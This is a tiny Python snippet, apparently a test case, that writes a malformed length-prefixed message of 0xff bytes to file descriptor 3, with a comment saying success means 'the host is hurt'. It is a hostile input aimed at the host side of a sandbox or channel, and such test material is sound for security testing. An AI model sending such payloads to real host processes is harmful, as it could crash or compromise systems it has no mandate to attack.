# success: the host is hurt
import os
os.write(3, b"\x10\0\0\0" + b"\xff" * 16)
